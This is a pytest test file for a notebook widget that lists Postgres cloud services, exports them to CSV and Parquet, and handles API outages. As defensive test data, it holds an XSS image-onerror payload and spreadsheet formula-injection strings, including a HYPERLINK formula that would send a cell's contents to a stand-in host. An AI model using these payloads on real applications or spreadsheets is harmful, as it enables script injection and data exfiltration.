"""The fleet table without a kernel: one snapshot a refresh, readable HTML, exports, a down API.

The API is the in-process fake of the list and Prometheus endpoints
(``fixtures.mockapi.FakeApi``), or a closed port for an API that is down: no
sandbox, so the whole file runs in seconds.
"""

from __future__ import annotations

import asyncio
import csv
import html as html_lib
import re
import socket
import stat
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fixtures.mockapi import FakeApi

import pgcloud_nb
from pgcloud_nb.ratelimit import Budget
from pgcloud_nb.widgets import FleetTable
from pgcloud_nb.widgets.fleetview import (
    COLUMNS,
    PAD_EM,
    TAGS_CHARS,
    fleet_html,
    id_chars,
    shown_path,
    write_export,
)

pytestmark = pytest.mark.timeout(120)

ITEM: dict[str, Any] = {
    "id": "67b4f3c1-0000-4000-8000-000000000001", "name": "checkout", "provider": "aws",
    "region": "us-east-1", "postgresVersion": "18", "size": "r8gd.large", "haType": "none",
    "state": "running", "createdAt": "2026-05-25T16:42:16+00:00", "isPrimary": True,
    "tags": [{"key": "team", "value": "payments"}, {"key": "env", "value": "production"}],
}  # fmt: skip


def _rows(html: str) -> int:
    return html.count("<tr>") - 1  # the header row


def _cells(html: str) -> list[list[str]]:
    body = html.split("<tbody>", 1)[1]
    return [re.findall(r"<td[^>]*>(.*?)</td>", row) for row in body.split("</tr>")[:-1]]


def test_a_refresh_is_one_snapshot_of_two_requests_with_the_key_metrics() -> None:
    api = FakeApi(5)
    with api.client() as client:
        table = FleetTable(client)
        assert dict(api.calls) == {"list": 1, "org": 1}
        assert _rows(table.table.value) == 5 and table.refreshes == 1
        for col in ("cpu_percent", "connections", "memory_used_percent", "filesystem_used_percent"):
            assert col in table.frame.columns
        assert table.frame["cpu_percent"].isna().all()  # one scrape: no rate yet
        assert table.frame["connections"].dtype == "Int64"
        api.k += 1
        table.refresh()
        assert dict(api.calls) == {"list": 2, "org": 2}
        assert table.frame["cpu_percent"].notna().all()
        header = [label for label, _, _ in COLUMNS]
        assert re.findall(r"<th(?: [^>]*)?>(.*?)</th>", table.table.value) == header
        cpu, conns, mem, disk = (header.index(h) for h in ("CPU %", "conns", "mem %", "disk %"))
        for row in _cells(table.table.value):
            assert re.fullmatch(r"\d+\.\d", row[cpu]) and re.fullmatch(r"\d+", row[conns])
            assert re.fullmatch(r"\d+\.\d", row[mem]) and re.fullmatch(r"\d+\.\d", row[disk])
        assert "4 of 5" not in table.status.value and "5 of 5 services" in table.status.value


def test_the_table_fits_a_notebook(figures: dict[str, str]) -> None:
    """Compact columns, no wrapping of short values, sideways scroll for the rest."""
    services = [
        {**ITEM, "id": f"{i:08x}-1111-4000-8000-{i:012x}", "name": f"checkout-staging-{i:06x}",
         "region": "ap-northeast-2", "size": "r8gd.xlarge",
         "tags": [*ITEM["tags"], {"key": "notebook", "value": "05-fleet"},
                  {"key": "run", "value": "6f0f6e"}]}
        for i in range(4)
    ]  # fmt: skip
    frame = pgcloud_nb.frames.services_frame(services).assign(
        cpu_percent=100.0, connections=120, memory_used_percent=99.9, filesystem_used_percent=99.9
    )  # the widest figures each column can show
    html = fleet_html(frame)
    assert 'style="overflow-x:auto;max-width:100%"' in html  # the box scrolls sideways
    assert "white-space:nowrap" in html.split("<thead>")[0]  # on the table: no cell wraps
    assert "tag." not in re.sub(r"<[^>]+>", "", html.split("<tbody>")[0])  # one tags column
    # ids as their first 8 characters, whole in the tooltip
    assert f'<td title="{services[0]["id"]}" style="white-space:nowrap;' in html
    assert f"<code>{services[0]['id'][:8]}…</code>" in html
    # JupyterLab's CSS lets td and th wrap: every cell, the tags too, says nowrap itself,
    # so a row is one line high however many tags it has
    cells = re.findall(r"<t[dh](?: [^>]*)?>", html)
    assert len(cells) == 12 + 4 * 12
    assert [c for c in cells if "white-space:nowrap" not in c] == []
    assert "<br" not in html and "<span" not in html.split("<tbody>")[1]
    assert "e+" not in html and "nan" not in html.lower() and "&lt;NA&gt;" not in html
    # what a row spends on its columns, in characters
    widest = max(sum(len(re.sub(r"<[^>]+>", "", c)) for c in row) for row in _cells(html))
    figures["fleet table: widest row"] = f"{widest} characters"
    assert widest <= 120
    pixels = _width_px(html)
    if pixels is not None:
        figures["fleet table: width in DejaVu Sans 13 px (notebook: 1,008 px)"] = f"{pixels} px"
        assert pixels <= 1008


def test_the_tags_are_one_line_cut_with_every_tag_in_the_tooltip() -> None:
    many = [{"key": f"key{i}", "value": f"value-{i}"} for i in range(12)]
    services = [
        {**ITEM, "id": "a", "name": "a", "tags": [*many, {"key": "team", "value": "payments"}]},
        {**ITEM, "id": "b", "name": "b", "tags": [*many, {"key": "team", "value": "search"}]},
        {**ITEM, "id": "c", "name": "c", "tags": []},
    ]
    html = fleet_html(pgcloud_nb.frames.services_frame(services))
    rows = re.findall(r"<tr>(.*?)</tr>", html.split("<tbody>")[1], re.S)
    tags = [re.findall(r"<td([^>]*)>([^<]*)</td>", row)[-1] for row in rows]
    (attrs, text), _, empty = tags
    # the tag that tells rows apart comes first; those alike on every row shown come after
    assert text.startswith("team=payments, key0=")
    assert len(text) == TAGS_CHARS and text.endswith("…")
    title = re.search(r'title="([^"]*)"', attrs)
    assert title is not None
    first, *rest = title.group(1).split("\n")  # one tag a line, the telling one first
    assert first == "team=payments" and sorted(rest) == sorted(
        f"key{i}=value-{i}" for i in range(12)
    )
    assert empty[1] == "" and "title=" not in empty[0]  # no tags: a blank cell, no tooltip
    tags = [{"key": "team", "value": "db"}, {"key": "env", "value": "prod"}]
    short = fleet_html(pgcloud_nb.frames.services_frame([{**ITEM, "tags": tags}]))
    assert ">env=prod, team=db</td>" in short and 'title="env=' not in short  # whole: no tooltip


def _width_px(html: str) -> int | None:
    """The table's width laid out as JupyterLab would: 13 px text, PAD_EM padding a side.

    DejaVu Sans is wider than the system fonts JupyterLab asks for, so this errs
    wide. None where the font is not installed.
    """
    font_file = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
    if not font_file.exists():
        return None
    from PIL import ImageFont

    font = ImageFont.truetype(str(font_file), 13)
    header = re.findall(r"<th(?: [^>]*)?>(.*?)</th>", html)
    columns = [[font.getlength(h) * 1.1] for h in header]  # bold headers: ~10 % wider
    for row in _cells(html):
        for i, cell in enumerate(row):
            columns[i].append(font.getlength(html_lib.unescape(re.sub(r"<[^>]+>", "", cell))))
    return round(sum(max(c) + 2 * PAD_EM * 13 for c in columns))


def test_every_value_is_escaped() -> None:
    hostile = '<img src=x onerror="alert(1)">&'
    table_html = fleet_html(
        pgcloud_nb.frames.services_frame(
            [{**ITEM, "name": hostile, "region": hostile, "size": hostile, "id": hostile,
              "tags": [{"key": hostile, "value": hostile}]}]
        )
    )  # fmt: skip
    assert "<img" not in table_html and 'onerror="' not in table_html
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&amp;" in table_html


def test_ids_are_as_short_as_tells_them_apart() -> None:
    assert id_chars([]) == 8 and id_chars(["67b4f3c1-aaaa", "77b4f3c1-aaaa"]) == 8
    assert id_chars(["67b4f3c1-0000", "67b4f3c1-0001", "1"]) == 13


def test_export_writes_the_view_where_asked_without_secrets(tmp_path: Path) -> None:
    secret = "Sup3rSecretPassw0rd"
    api = FakeApi(3)
    with api.client() as client:
        table = FleetTable(client)
        table.show(
            [
                *[{**ITEM, "id": f"id-{i}", "name": f"svc-{i}"} for i in range(3)],
                {**ITEM, "id": "id-x", "name": "leaky", "password": secret,
                 "connectionString": f"postgres://postgres:{secret}@h:5432/postgres",
                 "tags": [{"key": "dsn", "value": f"postgres://app:{secret}@db/app"}]},
            ]
        )  # fmt: skip
        table.filter.value = "svc-"
        table.sort_by.value = "name"
        table.ascending.value = False
        table.folder.value = str(tmp_path / "exports")  # made if missing
        table.csv_button.click()
        csv = table.exported
        assert csv is not None and csv.parent == tmp_path / "exports"
        assert re.fullmatch(r"fleet-\d{8}-\d{6}\.csv", csv.name)
        assert f"wrote 3 services to {shown_path(csv)}" in table.status.value
        back = pd.read_csv(csv)
        assert back["name"].tolist() == ["svc-2", "svc-1", "svc-0"]
        assert list(back.columns) == list(table.frame.columns)
        table.parquet_button.click()
        parquet = table.exported
        assert parquet is not None and parquet.suffix == ".parquet"
        typed = pd.read_parquet(parquet)
        assert typed["name"].tolist() == ["svc-2", "svc-1", "svc-0"]
        assert typed["createdAt"].dtype == table.frame["createdAt"].dtype  # real dtypes kept
        table.csv_button.click()  # a second click in the same second: a second file
        assert table.exported != csv and table.exported is not None and table.exported.exists()
        table.filter.value = "leaky"
        for fmt in ("csv", "parquet"):
            written = table.export(fmt, tmp_path)
            assert secret.encode() not in written.read_bytes(), fmt
            assert b"leaky" in written.read_bytes() and b"postgres://app:" in written.read_bytes()
        assert not table.errors.outputs


def test_the_export_folder_reads_as_a_person_would_say_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The field says "this notebook's folder" instead of a long absolute path; the path
    is in its tooltip, and a written file shows relative to the notebook's folder."""
    monkeypatch.chdir(tmp_path)
    with FakeApi(2).client() as client:
        table = FleetTable(client)
        assert table.folder.value == "" and table.folder.placeholder == "this notebook's folder"
        assert str(tmp_path) in table.folder.tooltip
        table.csv_button.click()
        assert table.exported is not None and table.exported.parent == tmp_path
        assert table.status.value.endswith(f"wrote 2 services to {table.exported.name}")
        table.folder.value = "exports/fleet"
        assert str(tmp_path / "exports" / "fleet") in table.folder.tooltip
        table.parquet_button.click()
        assert table.exported is not None
        assert f"to exports/fleet/{table.exported.name}" in table.status.value
        assert str(tmp_path) not in table.status.value  # never the long absolute path
    assert shown_path(tmp_path / "a.csv", cwd=tmp_path) == "a.csv"
    assert shown_path(Path.home() / "x" / "a.csv", cwd=tmp_path) == "~/x/a.csv"
    assert shown_path(Path("/srv/a.csv"), cwd=tmp_path) == "/srv/a.csv"


def test_a_csv_export_runs_no_formula_and_is_the_users_only(tmp_path: Path) -> None:
    """Names and tags are user input: a spreadsheet must show them, not run them."""
    evil = '=HYPERLINK("http://x/?"&A1)'
    frame = pd.DataFrame({
        "name": ["+cmd", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b", None],
        "tag.team": pd.Categorical([evil, "ok", None, "ok", "ok", "ok", "ok", "ok"]),
        "tags": [[{"key": "k", "value": evil}], [], [], [], [], [], [], []],
        "vcpus": [-2, 2, 2, 2, 2, 2, 2, 2],  # a number is no formula: kept as it is
    })  # fmt: skip
    folder = tmp_path / "new" / "exports"
    path = write_export(frame, folder, "csv", now=datetime(2026, 1, 2, 3, 4, 5))
    with path.open(newline="") as f:  # as a spreadsheet reads it: a row per row, \r included
        header, *rows = csv.reader(f)
    back = pd.DataFrame(rows, columns=header)
    assert back["name"].tolist() == [
        "'+cmd", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "a=b", ""
    ]  # fmt: skip
    assert back["tag.team"].tolist()[:3] == ["'" + evil, "ok", ""]
    assert back["tags"][0].startswith("[")  # JSON: the formula sits inside, not first
    assert back["vcpus"].tolist()[0] == "-2"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # made by the export
    parquet = write_export(frame, folder, "parquet", now=datetime(2026, 1, 2, 3, 4, 5))
    assert pd.read_parquet(parquet)["name"][0] == "+cmd"  # data, not a sheet: kept as it is
    assert stat.S_IMODE(parquet.stat().st_mode) == 0o600
    tmp_path.chmod(0o755)
    write_export(frame, tmp_path, "csv", now=datetime(2026, 1, 2, 3, 4, 5))
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o755  # a folder it did not make: as it was


def test_an_export_to_a_place_it_cannot_write_says_so(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    with FakeApi(1).client() as client:
        table = FleetTable(client)
        table.folder.value = str(blocker / "sub")
        table.csv_button.click()
        assert table.exported is None and "Error" in table.errors.text


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_a_down_api_shows_one_line_and_keeps_the_loop_free(figures: dict[str, str]) -> None:
    api = FakeApi(2)
    with api.client() as client:
        table = FleetTable(client)  # a good refresh first: this is what must stay shown
    shown = table.table.value
    table.client = pgcloud_nb.connect(
        api_key="key", api_secret="secret", org_id="org", env_file=None,
        base_url=f"http://127.0.0.1:{_closed_port()}", budget=Budget.unlimited(),
    )  # fmt: skip

    async def scenario() -> tuple[int, float]:
        ticks = 0
        started = time.monotonic()
        task = table.refresh()
        assert task is not None and table.refresh() is task  # a second click is not a second job
        while not task.done():
            ticks += 1  # the loop (the kernel) keeps running while the API fails
            await asyncio.sleep(0.01)
        return ticks, time.monotonic() - started

    try:
        ticks, seconds = asyncio.run(scenario())
    finally:
        table.client.close()
    figures["fleet table: API down, seconds until the error shows"] = f"{seconds:.1f} s"
    assert ticks > 1
    assert len(table.errors.outputs) == 1 and "TransportError" in table.errors.text
    assert "refresh failed" in table.status.value and "2 of 2 services" in table.status.value
    assert table.table.value == shown  # the last fleet stays


def test_auto_refresh_stops_leaving_the_table_and_close_removes_it() -> None:
    api = FakeApi(3)
    with api.client() as client:
        table = FleetTable(client, interval=0.01)

        async def scenario() -> None:
            table.auto.value = True
            deadline = asyncio.get_running_loop().time() + 30
            while table.refreshes < 4 and asyncio.get_running_loop().time() < deadline:
                api.k += 1
                await asyncio.sleep(0.02)
            task = table.task
            table.stop()
            await asyncio.sleep(0)
            assert task is not None and task.done() and table.task is None

        asyncio.run(scenario())
        assert table.refreshes >= 4, table.errors.text
        assert not table.auto.value and "auto-refresh off" in table.status.value
        assert _rows(table.table.value) == 3 and table.frame["cpu_percent"].notna().all()
        children = list(table.children)
        table.close()
        assert table.comm is None and all(c.comm is None for c in children)


def test_auto_refresh_keeps_to_its_share_of_the_budget() -> None:
    with FakeApi(1).client() as client:
        table = FleetTable(client, interval=1.0)
        client.requester.budget = Budget(10, 10.0)  # the real API's 10 requests per 10 s
        assert table._pause() == pytest.approx(20.0)  # 2 requests a beat: 10 % of the slots
        table.interval = 60.0
        assert table._pause() == 60.0
